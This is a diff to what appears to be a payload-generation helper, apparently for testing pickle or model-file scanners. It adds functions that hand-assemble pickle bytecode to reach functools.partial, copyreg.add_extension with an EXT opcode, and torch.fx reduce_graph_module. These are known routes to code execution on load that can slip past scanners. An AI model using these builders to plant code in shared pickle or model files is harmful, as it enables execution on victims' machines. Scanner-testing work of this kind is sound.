@@ -147,6 +147,35 @@ def partial_call(module: str, name: str, arg: Arg = PAYLOAD) -> bytes:
     return pickle_of(part + b")R", 2)
 
 
+def partial_of(target: bytes, *args: Arg, module: str = "functools", called_with: tuple[Arg, ...] | None = None,
+               via_state: bool = False) -> bytes:
+    """``functools.partial(<target>, *args)`` built as pickle builds it (REDUCE of ``(target,)`` then
+    BUILD of ``(target, args, kwds, dict)`` when ``via_state``), then called with ``called_with``."""
+    if via_state:
+        part = (global_op(module, "partial") + b"(" + target + b"tR"
+                + b"(" + target + args_tuple(args, 2) + b"}N" + b"tb")
+    else:
+        part = global_op(module, "partial") + b"(" + target + b"".join(value(a, 2) for a in args) + b"tR"
+    if called_with is None:
+        return pickle_of(part, 2)
+    return pickle_of(part + args_tuple(called_with, 2) + b"R", 2)
+
+
+def add_extension_then_ext(module: str, name: str, code: int = 0xF0, arg: Arg = PAYLOAD) -> bytes:
+    """``copyreg.add_extension(module, name, code)``, then an EXT opcode of that code called."""
+    register = global_op("copyreg", "add_extension") + b"(" + text(module, 2) + text(name, 2) + integer(code) + b"tR0"
+    return pickle_of(register + b"\x82" + bytes([code]) + args_tuple((arg,), 2) + b"R", 2)
+
+
+def fx_graph_module(code: str, import_block: str = "import torch", body: dict[str, object] | None = None) -> bytes:
+    """``torch.fx.graph_module.reduce_graph_module(body, import_block)`` as ``torch.save`` of a
+    GraphModule pickles it (body holds the forward source under ``_code``)."""
+    items = {"training": True, "_code": code, **(body or {})}
+    pairs = b"".join(value(k, 2) + value(v, 2) for k, v in items.items())
+    call = global_op("torch.fx.graph_module", "reduce_graph_module") + b"(}(" + pairs + b"u" + text(import_block, 2)
+    return pickle_of(call + b"tR", 2)
+
+
 def nested_loads(inner: bytes) -> bytes:
     """``pickle.loads(inner)``: a pickle that unpickles another one."""
     return pickle_of(global_op("pickle", "loads") + b"(" + binbytes(inner) + b"tR", 3)
